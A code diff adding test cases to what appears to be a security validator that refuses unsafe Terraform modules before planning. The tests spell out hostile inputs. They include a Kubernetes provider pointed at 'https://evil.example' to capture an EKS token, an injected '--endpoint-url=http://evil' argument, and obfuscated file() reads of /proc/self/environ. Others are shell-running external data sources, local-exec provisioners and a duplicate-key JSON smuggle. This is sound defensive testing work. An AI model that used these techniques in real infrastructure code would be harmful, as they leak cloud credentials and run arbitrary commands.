@@ -49,15 +49,18 @@ describe('a module', () => {
       expect({ stack, why: whyNotVetted(module, { ...CLOUD, backend: kind, stack }) }).toEqual({ stack, why: undefined });
   });
 
-  const exec = (args: readonly string[], command = 'aws') => ({
+  const endpoint = '${data.terraform_remote_state.compute-kubernetes.outputs.endpoint}';
+  const exec = (args: readonly string[], command = 'aws', host = endpoint) => ({
     ...good,
     terraform: { backend, required_providers: { kubernetes: { source: 'kubernetes' } } },
     resource: {},
-    provider: { kubernetes: [{ host: 'h', exec: [{ api_version: 'v1beta1', command, args }] }] },
+    provider: { kubernetes: [{ host, exec: [{ api_version: 'v1beta1', command, args }] }] },
   });
   const token = ['eks', 'get-token', '--cluster-name', 'c', '--region', 'r', '--output', 'json'];
 
   it('may get the token of its cluster', () => expect(whyNotVetted(exec(token), S3)).toBeUndefined());
+
+  const output = (value: string): RootModule => ({ ...good, output: { x: { value } } }) as RootModule;
 
   const refused: readonly (readonly [string, RootModule, RegExp])[] = [
     [
@@ -70,7 +73,11 @@ describe('a module', () => {
       { ...good, terraform: { backend, required_providers: { aws: { source: 'evil/aws' } } } },
       /provider evil\/aws/,
     ],
-    ['a data source whose provider is implied', { ...good, data: { external: { run: { program: ['sh'] } } } }, /type external/],
+    [
+      'a data source whose provider is implied',
+      { ...good, data: { external: { run: { program: ['sh'] } } } },
+      /data source external/,
+    ],
     ['a module', { ...good, module: { m: { source: './m' } } } as RootModule, /section "module"/],
     ['a credentials file', { ...good, provider: { aws: [{ shared_config_files: ['./x'] }] } }, /sets shared_config_files/],
     ['another server for AWS', { ...good, provider: { aws: [{ endpoints: [{ s3: 'https://evil' }] }] } }, /sets endpoints/],
@@ -118,6 +125,45 @@ describe('a module', () => {
       'a program of a Helm release',
       { ...good, resource: { helm_release: { r: { postrender: { binary_path: 'sh' } } } } },
       /runs a program/,
+    ],
+    ['a cluster elsewhere, which would get the token', exec(token, 'aws', 'https://evil.example'), /sends the token/],
+    [
+      'an option where the name of a cluster belongs',
+      exec([...token.slice(0, 3), '--endpoint-url=http://evil', ...token.slice(4)]),
+      /another program/,
+    ],
+    ['a file in a directive', output('%{ if file("/proc/self/environ") != "" }a%{ endif }'), /reads a file/],
+    ['a comment in front of the parenthesis', output('${file/**/("/proc/self/environ")}'), /reads a file/],
+    ['a line comment in front of the parenthesis', output('${file # x\n("/proc/self/environ")}'), /reads a file/],
+    ['lines around a function', output('${\nfile\n(\n"/proc/self/environ")}'), /reads a file/],
+    ['a file in a key', { ...good, output: { x: { value: { '${file("/x")}': 1 } } } } as RootModule, /reads a file/],
+    ['a function of a provider', output('${provider::local::direxists("/x")}'), /reads a file/],
+    ['a path of the home folder', output('${pathexpand("~")}'), /reads a file/],
+    [
+      'a secret read by a data source',
+      { ...good, data: { aws_secretsmanager_secret_version: { s: { secret_id: 'prod' } } } },
+      /data source aws_secretsmanager_secret_version/,
+    ],
+    ['a function that is called', { ...good, ephemeral: { aws_lambda_invocation: { f: {} } } }, /aws_lambda_invocation/],
+    [
+      'a provisioner',
+      { ...good, resource: { aws_s3_bucket: { b: { provisioner: [{ 'local-exec': {} }] } } } },
+      /sets provisioner/,
+    ],
+    ['an object out of a file', { ...good, resource: { aws_s3_object: { o: { source: '/proc/self/environ' } } } }, /sets source/],
+    [
+      'a key of a chart repository out of a file',
+      { ...good, resource: { helm_release: { r: { repository_key_file: '/x' } } } },
+      /repository_key_file/,
+    ],
+    ['several backends', { ...good, terraform: { backend: [{ s3: {} }, { local: {} }] } }, /several backends/],
+    [
+      'a workspace of a state',
+      {
+        ...good,
+        data: { terraform_remote_state: { d: { backend: 's3', workspace: 'prod', config: { bucket: 'b', key: 'k' } } } },
+      },
+      /read with workspace/,
     ],
   ];
 
@@ -213,10 +259,16 @@ describe('an artifact', () => {
     expect(stdout).toContain('expected=shop-test\n');
   });
 
+  it('gives what was vetted, where a key occurs twice: Terraform reads both', () => {
+    const twice = JSON.stringify(MODULE).replace(/\}$/, ',"data":{"external":{"x":{"program":["sh"]}}},"data":{}}');
+    const { checkout } = accept({ 'delivery/changes.json': changed(), [`${stack}/cdk.tf.json`]: twice });
+    expect(readFileSync(join(checkout, stack, 'cdk.tf.json'), 'utf8')).not.toContain('external');
+  });
+
   it('is refused with a module that Terraform must not read', () => {
     const module = { ...MODULE, data: { external: { x: {} } } };
     expect(() => accept({ 'delivery/changes.json': changed(), [`${stack}/cdk.tf.json`]: module })).toThrow(
-      /shop-test-data is not planned: it has a block of the type external/,
+      /shop-test-data is not planned: it reads the data source external/,
     );
   });
 
